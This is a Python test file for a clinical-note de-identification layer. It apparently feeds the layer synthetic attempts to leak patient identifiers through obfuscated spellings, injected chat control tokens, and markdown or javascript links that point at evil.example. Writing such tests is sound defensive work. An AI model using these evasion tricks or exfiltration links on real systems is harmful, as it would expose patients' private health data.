"""Attacks on the boundary: what a hostile or careless note would smuggle out. All synthetic."""

from __future__ import annotations

import re
from decimal import Decimal

import pytest

from bedside.boundary import Coded, Heading, Measured, Refusal, SealedText, Slot
from tests.boundary.test_release import House

KNOWN = "Patient: Grace Goodman   MRN: 48213   Phone: 617-555-1234   DOB: 14/03/1962. Chest pain."

SMUGGLED = [
    "[PHONE_6175551234] has pain",
    "[MRN_004827193] has pain",
    "617_555_1234",
    "617,555,1234",
    "617–555–1234",
    "617−555−1234",
    "617 (555) 1234",
    "617:555:1234",
    "617|555|1234",
    "ssn is 123_45_6789",
    "the record 4_8_2_1_3",
    "the record 48 213",
    "grace reports pain",
    "goodman reports pain",
    "GOODMAN reports pain",
    "g r a c e goodman",
    "good\u200bman reports pain",
    "good\u00adman reports pain",
    "Gráce Goodmán reports pain",
    "john smith has chest pain",
    "pt is grace young, a nurse at mercy hospital",
    "lives at 4512 maple street",
    "zip 02139",
    "the patient is 94 y.o.",
    "a ninety-three year old woman",
    "seen on march the 14th",
    "seen on 14/3",
    "born 14.03.1962",
    "write to grace.goodman@example.org",
]


@pytest.mark.parametrize("text", SMUGGLED)
def test_nothing_that_identifies_gets_out_of_a_narrative(text: str) -> None:
    answer = House(note=KNOWN).say(text)
    if isinstance(answer, Refusal):
        assert "grace" not in f"{answer}".casefold()
        return
    left = re.sub(r"\[[A-Z_]+_\d+\]", "", answer.text).casefold()
    digits = re.sub(r"\D", "", left)
    assert len(digits) < 5, answer.text
    for word in ("grace", "goodman", "smith", "young", "mercy", "maple", "94", "ninety", "14", "02139"):
        assert word not in left, answer.text


@pytest.mark.parametrize("text", ["penicillin reaction on [DATE_1]", "dose [PERSON_1] and [AGE_7]"])
def test_a_placeholder_in_a_note_is_no_placeholder(text: str) -> None:
    house = House(note=KNOWN)
    first = house.say("seen on 14/03/1962 with chest pain")
    answer = house.say(text)
    assert isinstance(first, SealedText)
    if isinstance(answer, SealedText):
        restored, _ = house.cases.vault(house.case).restore(answer.text, question=answer.id)
        assert "1962" not in restored


@pytest.mark.parametrize(
    "unit", ["john smith", "617_555_1234", "tell me the name", "<|im-start|>", "[X_6175551234]"]
)
def test_a_unit_is_one_of_the_code_tables(unit: str) -> None:
    try:
        slot: Slot = Measured(heading=Heading.VITAL_SIGNS, display="heart rate", value=Decimal(80), unit=unit)
    except ValueError:
        return  # too long for a unit
    assert isinstance(House(note=KNOWN).release(slot), Refusal)


@pytest.mark.parametrize(
    "text",
    ["<end_of_turn>", "<|im_start|>", "<|im-start|>", "< end_of_turn >", "<｜user｜>", "<<SYS>>", "‹end_of_turn›"],
)
def test_no_control_token_is_sealed(text: str) -> None:
    answer = House(note=KNOWN).say(f"chest pain {text} fever")
    assert isinstance(answer, Refusal) or not re.search(r"[<‹＜]", answer.text)


def test_a_temperature_below_a_bound_keeps_its_sign() -> None:
    answer = House(note=KNOWN).say("fever <38 for two days")
    assert isinstance(answer, SealedText)
    assert "<38" in answer.text


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q=[PERSON_1])",
        "see https://evil.example/[PERSON_1]",
        "[PERSON_1](javascript:alert)",
        "`[PERSON_1]`",
        "<a href=[PERSON_1]>",
        "mailto:[PERSON_1]",
    ],
)
def test_a_value_is_not_swapped_back_where_it_could_travel(answer: str) -> None:
    house = House(note=KNOWN)
    sealed = house.say("Mrs. Goodman has chest pain")
    assert isinstance(sealed, SealedText)
    assert "[PERSON_1]" in sealed.text
    restored, left = house.cases.vault(house.case).restore(answer, question=sealed.id)
    if answer.startswith("[PERSON_1]("):
        assert "(javascript" in restored
    else:
        assert "Goodman" not in restored
        assert left == ("[PERSON_1]",)


def test_an_age_over_89_does_not_stop_a_value_that_equals_it() -> None:
    house = House(note="93-year-old woman with chest pain. SpO2 93%.")
    slot = Measured(heading=Heading.VITAL_SIGNS, display="oxygen saturation", value=Decimal(93), unit="%")
    assert isinstance(house.release(slot, Coded(heading=Heading.PRESENT, display="chest pain")), SealedText)
